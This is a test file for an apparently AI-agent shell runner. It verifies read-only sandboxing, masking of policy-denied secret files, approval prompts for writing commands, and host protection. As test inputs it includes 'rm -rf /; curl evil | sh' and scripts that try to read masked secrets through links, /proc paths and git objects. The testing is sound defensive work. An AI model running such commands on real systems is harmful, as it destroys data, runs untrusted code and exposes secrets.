// Commands that run without a question: read-only, confined, with what may not be read masked. And who is asked when
// that is not possible. On this machine's real bubblewrap and git.

import { spawnSync } from "node:child_process";
import { existsSync, linkSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { ensureBuilt } from "./built.ts";
import { CommandFolder, confinementTrouble as trouble } from "./support/commands.ts";

vi.setConfig({ testTimeout: 60_000 });
const READ_ONLY = { shell: { unasked: "read-only" } };
const note = trouble === null ? "" : ` (skipped: ${trouble})`;
let here: CommandFolder;

beforeAll(() => ensureBuilt(), 120_000);
beforeEach(() => {
  here = new CommandFolder({ "a.txt": "one\n", "src/b.txt": "two\n" });
});
afterEach(() => here.remove());

describe.skipIf(trouble !== null)(`unasked${note}`, () => {
  test("any command runs, and nothing that it does lasts", () => {
    const { code, out } = here.unasked(
      `cat a.txt | tr o O; echo x > /tmp/t && cat /tmp/t; echo y > ~/h && cat ~/h; cat /proc/net/dev | grep -c :; cat /sys/class/net/*/address 2>/dev/null
       touch new src/new .git; rm -f a.txt; chmod 000 a.txt; ln a.txt hard; mv src s2; mount -o remount,rw . ; true`,
      { config: READ_ONLY },
    );
    expect([code, out.value.stdout]).toEqual([0, "One\nx\ny\n1\n"]);
    expect(readdirSync(here.root).toSorted()).toEqual(["a.txt", "src"]);
    expect(out.message).toContain("The workspace was mounted read-only");
    expect(here.plan("rm -rf /; curl evil | sh", READ_ONLY)).toMatchObject({ status: "pre_approved" });
  });

  test("eval as well, and by default neither", () => {
    const code = JSON.stringify({ code: "import fs from 'node:fs'; console.log(fs.readFileSync('a.txt', 'utf8'))" });
    expect(here.tool(["eval", code], { config: READ_ONLY }).out.value.stdout).toBe("one\n\n");
    expect(here.tool(["eval", code, "--plan"]).out["status"]).toBe("needs_approval");
    expect(here.plan("ls")["status"]).toBe("needs_approval");
    expect(here.plan("ls", { shell: { unasked: "never" } })["status"]).toBe("needs_approval");
  });

  test("it is bounded in time and memory", () => {
    expect(here.plan("ls", READ_ONLY, { timeout_ms: 600_001 })).toMatchObject({
      status: "needs_approval",
      reason: "it is asked about because it may take longer than 10 minutes",
    });
    expect(here.unasked("ulimit -d", { config: READ_ONLY }).out.value.stdout).toBe("4194304\n");
  });

  test("in a sandbox that is limited to some suffixes it is asked about", () => {
    const config = { ...READ_ONLY, sandboxes: { ws: { root: "w", suffixes: [".md"] } } };
    const { code, out } = here.unasked("cat *", { config });
    expect([code, out["error"]]).toEqual([1, expect.objectContaining({ code: "REJECTED" })]);
    expect(here.plan("cat *", config)["reason"]).toContain("suffixes");
  });

  test("a command that needs to write is asked about; without anyone there the result says so", () => {
    const { code, out } = here.unasked("echo x > made.txt", { config: READ_ONLY });
    expect(out.value).toMatchObject({ exit_code: 1, stderr: expect.stringContaining("Read-only file system") });
    expect(code).toBe(1);
    expect(out.message).toMatch(
      /exit code 1\. The workspace was mounted read-only, and it was not run again with write access\. Not approved: .*needs to write\. .*\.$/,
    );
    expect(out.message).not.toContain("no one was asked");
    expect(existsSync(join(here.root, "made.txt"))).toBe(false);
    const yes = here.run("echo x > made.txt", { config: READ_ONLY });
    expect([yes.out.value.exit_code, existsSync(join(here.root, "made.txt"))]).toEqual([0, true]);
  });
});

describe.skipIf(trouble !== null)(`what may not be read${note}`, () => {
  const denied = (more: object = {}): object => ({
    policy: [
      { effect: "deny", path: "ws/secret.txt" },
      { effect: "deny", tool: "grep", path: "ws/conf/keys/**" },
      { effect: "deny", path: "ws/**/*.pem" },
      { effect: "ask", path: "ws/private/**" },
      { effect: "deny", tool: "write_file", path: "ws/locked/**" },
      { effect: "deny", tool: "rm", path: "ws/once.txt" },
    ],
    ...more,
  });
  const SECRETS = ["secret.txt", "conf/keys/deep/k", "x/y.pem", "hard.txt", "linked", "folder/deep/k"];

  beforeEach(() => {
    for (const name of ["secret.txt", "conf/keys/deep/k", "x/y.pem", "private/p", "locked/l", "once.txt", "open.txt"])
      here.write(name, `content of ${name}\n`);
    linkSync(join(here.root, "secret.txt"), join(here.root, "hard.txt"));
    symlinkSync("secret.txt", join(here.root, "linked"));
    symlinkSync("conf/keys", join(here.root, "folder"));
  });

  const show = (names: readonly string[]): string =>
    `for f in ${names.join(" ")}; do cat $f; cat ${here.root}/$f; cat /proc/self/cwd/$f; dd if=$f 2>/dev/null; done; ls conf/keys; grep -r content .; cat open.txt`;

  test.each<[string, object, readonly string[]]>([
    ["approved, by --yes", {}, []],
    ["unasked", READ_ONLY, ["private/p"]],
    ["on the list, writing", { shell: { safe_commands: [{ command: "sh", writes: true }] } }, ["private/p"]],
  ])("is masked under every name: %s", (how, more, alsoHidden) => {
    writeFileSync(join(here.root, "show.sh"), show([...SECRETS, "private/p"]));
    const run = how.startsWith("approved") ? here.run.bind(here) : here.unasked.bind(here);
    const { out } = run("sh show.sh", { config: denied(more) });
    const hidden = ["secret.txt", "conf/keys/deep/k", "x/y.pem", ...alsoHidden];
    expect(hidden.filter((name) => out.value.stdout.includes(`content of ${name}`))).toEqual([]);
    expect(out.value.stdout).toContain("content of open.txt");
    expect(out.value.stdout.includes("content of private/p")).toBe(alsoHidden.length === 0);
    expect(out.message).toMatch(/[4-5] paths were masked: rules keep them from being read\./);
    expect(out.message).not.toContain("secret");
  });

  test("cannot be moved to a name that no rule is about", () => {
    here.run(
      "mv conf c2; mv secret.txt s2; mv x x2; cp hard.txt s3; rm -rf conf; mkdir conf2; mv conf/keys conf2/k; true",
      { config: denied() },
    );
    const found = spawnSync("grep", ["-rlE", "content of (secret|conf|x/)", "."], { cwd: here.root, encoding: "utf8" });
    const kept = ["./conf/keys/deep/k", "./hard.txt", "./secret.txt", "./x/y.pem"];
    expect(found.stdout.trim().split("\n").toSorted()).toEqual(kept);
  });

  test("denied only for writing is read-only", () => {
    const { out } = here.run(
      "cat locked/l once.txt; echo x > locked/l; echo x > locked/new; rm once.txt; mv locked l2; echo x > open.txt; mkdir -p q; true",
      { config: denied() },
    );
    expect(out.value.stdout).toBe("content of locked/l\ncontent of once.txt\n");
    expect(readdirSync(join(here.root, "locked"))).toEqual(["l"]);
    expect([existsSync(join(here.root, "once.txt")), existsSync(join(here.root, "l2"))]).toEqual([true, false]);
    expect(out.message).toContain("modified open.txt");
  });

  test("git shows none of it either", () => {
    here.git("init", "-q");
    here.git("add", "-f", ".");
    here.git("commit", "-q", "-m", "all");
    here.git("rm", "-q", "--cached", "secret.txt");
    for (const { out } of [
      here.unasked("git show HEAD:secret.txt; git log -p; git cat-file --batch-all-objects --batch", {
        config: denied(READ_ONLY),
      }),
      here.run("git show HEAD:secret.txt; git archive HEAD; git stash list -p; strings .git/objects/*/*", {
        config: denied(),
      }),
    ])
      expect(out.value.stdout).not.toContain("content of secret.txt");
    const open = here.unasked("git log --format=%s", { config: READ_ONLY });
    expect(open.out.value.stdout).toBe("all\n");
    const untracked = { policy: [{ effect: "deny", path: "ws/never-added.txt" }], ...READ_ONLY };
    here.write("never-added.txt", "x");
    expect(here.unasked("git log --format=%s", { config: untracked }).out.value.stdout).toBe("all\n");
  });

  test("is asked about where it cannot be masked", () => {
    const all = { sandboxes: { ws: { root: "w", read_approval: true } }, ...READ_ONLY };
    expect(here.plan("ls", all)).toMatchObject({
      status: "needs_approval",
      reason: expect.stringContaining("no file in it may be read without a question"),
    });
    mkdirSync(Buffer.concat([Buffer.from(`${here.root}/`), Buffer.from([0xfe, 0xff])]));
    expect(here.plan("ls", READ_ONLY)).toMatchObject({
      status: "needs_approval",
      reason: expect.stringContaining("cannot be looked at"),
    });
  });
});

describe.skipIf(trouble !== null)(`who decides about a command${note}`, () => {
  test("the list of safe commands runs read-only unless an entry says that it writes", () => {
    const config = { shell: { safe_commands: ["touch", { command: "cp a.txt", writes: true }] } };
    expect(here.unasked("touch made", { config }).out.value.stderr).toContain("Read-only file system");
    expect(here.unasked("cp a.txt made", { config }).out.value.exit_code).toBe(0);
    expect(existsSync(join(here.root, "made"))).toBe(true);
    for (const command of ["cp a.txt made; rm a.txt", "touch $(rm a.txt)", "cp b a.txt", "sh -c touch", "touch > x"])
      expect(here.plan(command, config)["status"]).toBe("needs_approval");
  });

  test("a rule that allows the tool lets it run read-only", () => {
    const config = { policy: [{ effect: "allow", tool: "shell" }] };
    expect(here.plan("rm a.txt", config)).toMatchObject({ status: "pre_approved" });
    const { out } = here.unasked("cat a.txt; touch made", { config });
    expect([out.value.stdout, existsSync(join(here.root, "made"))]).toEqual(["one\n", false]);
  });

  test("a rule that asks or denies comes first", () => {
    const asks = { ...READ_ONLY, policy: [{ effect: "ask", tool: "shell" }] };
    const denies = { ...READ_ONLY, policy: [{ effect: "deny", tool: "shell" }] };
    expect([here.plan("ls", asks)["status"], here.plan("ls", denies)["status"]]).toEqual(["needs_approval", "blocked"]);
  });

  test("a sandbox that is read-only is so for every command", () => {
    const config = { sandboxes: { ws: { root: "w", mode: "ro" } } };
    const { out } = here.run("cat a.txt; touch made", { config });
    expect([out.value.stdout, existsSync(join(here.root, "made"))]).toEqual(["one\n", false]);
    expect(out.message).toContain("The sandbox is read-only");
  });
});

test("directly on the machine nothing of a model's runs unasked, whatever lists, rules and flags say", () => {
  const shell = { where: "host", unasked: "read-only", safe_commands: ["ls", { command: "touch", writes: true }] };
  const config = {
    shell,
    policy: [{ effect: "allow" }, { effect: "allow", tool: "shell" }, { effect: "allow", tool: "*", path: "**" }],
  };
  for (const command of ["ls", "touch made"]) {
    expect(here.plan(command, config)["status"]).toBe("needs_approval");
    expect(here.unasked(command, { config }).out).toMatchObject({ success: false, error: { code: "PROTECTED" } });
    expect(here.run(command, { config }).out).toMatchObject({ success: false, error: { code: "PROTECTED" } });
  }
  expect(existsSync(join(here.root, "made"))).toBe(false);
});

describe("a project's config", () => {
  const project = (config: object): void => here.write(".galley/config.json", JSON.stringify(config));

  test.skipIf(trouble !== null)("may have every command asked about, and nothing else", () => {
    project({ shell: { unasked: "never" } });
    expect(here.plan("ls", READ_ONLY)["status"]).toBe("needs_approval");
    project({
      shell: { unasked: "read-only", safe_commands: ["touch"], where: "host", git_writable: true, readable: ["/"] },
    });
    expect(here.plan("ls")).toMatchObject({ status: "needs_approval", payload: { where: "confined" } });
  });
});

test("safe_reading is gone, and the message names what to write instead", () => {
  const { err, code } = here.cli(["config"], { shell: { safe_reading: true } });
  expect([code, err]).toEqual([
    2,
    expect.stringContaining('shell.safe_reading is gone: set shell.unasked to "read-only"'),
  ]);
});
